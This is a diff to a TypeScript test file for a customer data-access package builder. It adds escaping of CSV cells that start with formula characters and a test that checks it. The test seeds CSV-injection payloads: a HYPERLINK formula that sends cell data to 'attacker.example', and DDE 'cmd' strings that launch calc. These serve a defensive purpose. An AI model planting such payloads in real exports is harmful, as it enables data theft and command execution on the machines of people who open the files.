@@ -105,7 +105,9 @@ async function subjectRows(subject: ShopCustomer) {
 
 const byId = (left: Record<string, unknown>, right: Record<string, unknown>) => Number(left.id) - Number(right.id);
 const sha256 = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex');
-const csvCell = (value: unknown) => (value === null ? '' : value instanceof Date ? value.toISOString() : String(value));
+const csvCell = (value: unknown) => (value === null ? '' : value instanceof Date ? value.toISOString() : spreadsheetText(String(value)));
+/** What a package CSV holds for a text: a cell a spreadsheet would run as a formula gets a leading quote (the demo phone numbers start with +). */
+const spreadsheetText = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);
 
 describe('[system] gathers an access request’s data into a package', () => {
   it('a verified access request starts gathering by itself: one pending result per enabled source, the request stays new', async () => {
@@ -175,6 +177,47 @@ describe('[system] gathers an access request’s data into a package', () => {
     const built = (await listEvents(db, { requestId: request.id })).find((event) => event.action === 'data_package_built');
     expect(built).toMatchObject({ actorType: 'system', details: { runId, sizeBytes: run.packageSizeBytes, sha256: run.packageSha256 } });
     expect(JSON.stringify(built!.details)).not.toContain(subject.email);
+  });
+
+  it('a source value that a spreadsheet would run as a formula is text in the CSV, exact in the JSON, and the manifest says so', async () => {
+    const hostile = {
+      fullName: '=HYPERLINK("http://attacker.example/?d="&A1,"Open")',
+      city: "+cmd|' /C calc'!A0",
+      ticketBody: '@SUM(1+1)*cmd|\' /C calc\'!A0',
+      ticketSubject: '\tTabbed=1+1',
+      line1: '\rCarriage=1+1',
+      postcode: '-2+3+cmd|\' /C calc\'!A0',
+    };
+    const { subject, runId } = await aShopCustomerRequest({ orders: 1 });
+    await shop.sql`update customers set full_name = ${hostile.fullName} where id = ${subject.customerId}`;
+    await shop.sql`update addresses set city = ${hostile.city}, line1 = ${hostile.line1}, postcode = ${hostile.postcode} where customer_id = ${subject.customerId}`;
+    await shop.sql`update support_tickets set subject = ${hostile.ticketSubject}, body = ${hostile.ticketBody} where customer_id = ${subject.customerId}`;
+
+    const run = await gather(runId);
+
+    const files = await readZipFile(attachmentPath(run.packageStorageKey!));
+    const slug = source.slug;
+    const csv = (table: string) => parse(files.get(`${slug}/${table}.csv`)!, { columns: true }) as Record<string, string>[];
+    expect(csv('customers')[0]!.full_name).toBe(`'${hostile.fullName}`);
+    expect(csv('addresses').map(({ city, line1, postcode }) => ({ city, line1, postcode }))).toEqual([
+      { city: `'${hostile.city}`, line1: `'${hostile.line1}`, postcode: `'${hostile.postcode}` },
+      { city: `'${hostile.city}`, line1: `'${hostile.line1}`, postcode: `'${hostile.postcode}` },
+    ]);
+    expect(csv('support_tickets')[0]).toMatchObject({ subject: `'${hostile.ticketSubject}`, body: `'${hostile.ticketBody}` });
+    // No cell of any CSV starts with a character a spreadsheet treats as a formula.
+    for (const table of ['customers', 'addresses', 'orders', 'newsletter_subscriptions', 'support_tickets']) {
+      const cells = (parse(files.get(`${slug}/${table}.csv`)!) as string[][]).flat();
+      expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+    }
+
+    const json = JSON.parse(files.get(`${slug}/${slug}.json`)!.toString('utf8'));
+    expect(json.tables.customers[0].full_name).toBe(hostile.fullName);
+    expect(json.tables.addresses[0]).toMatchObject({ city: hostile.city, line1: hostile.line1, postcode: hostile.postcode });
+    expect(json.tables.support_tickets[0]).toMatchObject({ subject: hostile.ticketSubject, body: hostile.ticketBody });
+
+    const manifest = JSON.parse(files.get('manifest.json')!.toString('utf8'));
+    expect(manifest.csv).toEqual({ formulasEscaped: true, note: expect.stringContaining('single quote') });
+    expect(files.get('index.html')!.toString('utf8')).toContain('shows it as text instead of running it as a formula');
   });
 
   it('the request page’s read model shows each source’s progress: pending, then done with its rows', async () => {
